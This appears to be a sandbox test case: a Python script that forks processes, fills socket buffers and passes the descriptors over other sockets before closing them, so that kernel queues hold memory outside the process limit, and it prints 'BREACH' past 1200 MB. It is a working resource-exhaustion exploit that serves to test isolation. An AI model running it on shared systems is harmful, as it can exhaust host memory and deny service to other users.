# /// case
# attack = "Sends full sockets over sockets and closes them, so that nobody holds them but the queue."
# limits = {wall_s = 10.0, memory_mb = 128}
# statuses = ["exited", "memory_limit", "signalled", "timeout"]
# ///
import array, os, socket, time
def fill(end, size):
    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
    end.setblocking(False)
    held = 0
    try:
        while True:
            held += end.send(bytes(size))
    except OSError:
        return held
ready, told = os.pipe()
def tell(held):
    os.write(told, (held >> 12).to_bytes(2, "big"))
for _ in range(28):
    if os.fork() == 0:
        carriers = []
        try:
            while len(carriers) < 24:
                carriers.append(socket.socketpair())
                for _ in range(4):
                    pair = socket.socketpair()
                    held = sum(fill(end, 1 << 17) for end in pair)
                    numbers = array.array("i", [end.fileno() for end in pair])
                    carriers[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
                    tell(held)
                    for end in pair:
                        end.close()
        finally:
            os.close(told)
            time.sleep(60)
os.close(told)
held = 0
while piece := os.read(ready, 2):
    held += int.from_bytes(piece, "big") / 256
    if held > 1200:
        print("BREACH", held, "MB in sockets at once, in a cell of 1024 MB", flush=True)
print("got", held)
